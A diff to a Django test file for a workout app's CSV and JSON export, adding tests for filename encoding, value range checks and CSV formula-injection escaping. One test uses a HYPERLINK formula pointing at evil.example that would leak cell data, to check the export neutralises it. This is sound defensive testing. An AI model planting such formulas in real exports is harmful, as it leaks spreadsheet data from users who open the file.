@@ -18,9 +18,10 @@ from exchange import samples
 from exchange.deletion import delete_account
 from exchange.exporting import STRONG_HEADER
 from programs.generation import assignments_in_week, generate_week
-from programs.models import Exercise, Session, SessionPrescription
+from programs.models import Assignment, Exercise, Program, Session, SessionPrescription
 from programs.weeks import IsoWeek
 from tests.conftest import log_set_on, make_user
+from tracking.models import SetLog
 
 STRONG_URL = "/account/export/strong.csv"
 JSON_URL = "/account/export/legplanner.json"
@@ -93,7 +94,8 @@ def test_the_strong_csv_has_strongs_columns_and_a_row_per_set(client, athlete, o
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert (
         response["Content-Disposition"]
-        == 'attachment; filename="legplanner-athlete-2026-12-14.csv"'
+        == 'attachment; filename="legplanner-athlete-2026-12-14.csv"; '
+        "filename*=UTF-8''legplanner-athlete-2026-12-14.csv"
     )
     text = body(response)
     assert text.splitlines()[0] == ",".join(STRONG_HEADER)
@@ -246,7 +248,11 @@ def test_someone_elses_json_is_refused_while_its_sets_exist(client, athlete, oth
     ("change", "message"),
     [
         ({"sets_min": 5, "sets_max": 4}, "prescriptions[0]: the sets, reps or target RIR range"),
-        ({"rir_max": 7}, "prescriptions[0]: the sets, reps or target RIR range"),
+        ({"rir_max": 7}, "prescriptions[0].rir_max: 7 is out of range (0 to 3)"),
+        # The model's bound, not a copy of it: 900 sets once drew 900 rows on a page.
+        ({"sets_max": 900}, "prescriptions[0].sets_max: 900 is out of range (0 to 20)"),
+        ({"order": 32768}, "prescriptions[0].order: 32768 is out of range (1 to 50)"),
+        ({"rest_seconds": 10**30}, "a number of more than 18 digits"),
     ],
 )
 def test_a_json_file_with_values_we_do_not_keep_is_refused(client, athlete, change, message):
@@ -276,3 +282,77 @@ def test_a_json_assignment_on_consecutive_days_is_refused(client, athlete):
     )
     assert response.status_code == 400
     assert "file.assignments[0]: the weekdays or the dates" in response.content.decode()
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_text_cells_a_spreadsheet_would_run_are_escaped(client, athlete, start):
+    (monday, thursday) = _trained_weeks(athlete)
+    formula = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
+    Session.objects.filter(pk=monday.pk).update(name=formula)
+    SetLog.objects.filter(prescription__session=monday).update(note=formula)
+    Exercise.objects.filter(slug="back-squat").update(name=formula[:80])
+    client.force_login(athlete)
+
+    exported = rows(client.get(STRONG_URL))
+
+    assert {r["Workout Name"] for r in exported} == {"'" + formula, thursday.name}
+    mondays = [r for r in exported if r["Workout Name"] == "'" + formula]
+    assert {r["Notes"] for r in mondays} == {
+        "'" + formula,
+        f"Left leg: {formula}",
+        f"Right leg: {formula}",
+    }
+    assert {r["Exercise Name"] for r in mondays} == {
+        "'" + formula[:80],
+        "Romanian deadlift",
+        "Walking lunge",
+    }
+    # Numbers stay numbers: nothing but text cells is touched.
+    assert all(
+        Decimal(r["Weight"]) > 0 and int(r["RPE"]) == 8 for r in exported if r["Reps"] == "8"
+    )
+
+
+def test_an_escaped_export_imports_back_as_it_was_written(client, athlete):
+    (monday, _) = _trained_weeks(athlete)
+    SetLog.objects.filter(prescription__session=monday).update(note="=1+1")
+    client.force_login(athlete)
+    exported = body(client.get(STRONG_URL))
+    assert ",'=1+1," in exported
+
+    again = make_user("again")
+    Assignment.objects.create(
+        athlete=again, program=Program.objects.get(is_default=True), start_date=monday.date
+    )
+    client.force_login(again)
+    upload = client.post(
+        "/account/import/", {"file": SimpleUploadedFile("s.csv", exported.encode(), "text/csv")}
+    )
+    assert client.post(upload["Location"], {"unit": "kg"}).status_code == 302
+    notes = set(
+        SetLog.objects.filter(prescription__session__athlete=again).values_list("note", flat=True)
+    )
+    # Monday's sets, the lunges' two rows per set among them, and Thursday's without a note.
+    assert notes == {"=1+1", ""}
+
+
+@pytest.mark.parametrize(
+    ("username", "fallback", "encoded"),
+    [
+        ("athlete", "legplanner-athlete-2026-12-14.csv", "legplanner-athlete-2026-12-14.csv"),
+        ("Łukasz", "legplanner-_ukasz-2026-12-14.csv",
+         "legplanner-%C5%81ukasz-2026-12-14.csv"),
+        ("李雷", "legplanner-_-2026-12-14.csv", "legplanner-%E6%9D%8E%E9%9B%B7-2026-12-14.csv"),
+        ("a+b@c.d", "legplanner-a+b@c.d-2026-12-14.csv", "legplanner-a%2Bb%40c.d-2026-12-14.csv"),
+    ],
+)  # fmt: skip
+def test_the_file_name_survives_any_username(client, db, username, fallback, encoded):
+    user = make_user(username)
+    client.force_login(user)
+
+    response = client.get(STRONG_URL)
+
+    assert response.status_code == 200
+    header = response["Content-Disposition"]
+    assert header == f"attachment; filename=\"{fallback}\"; filename*=UTF-8''{encoded}"
+    assert header.isascii()
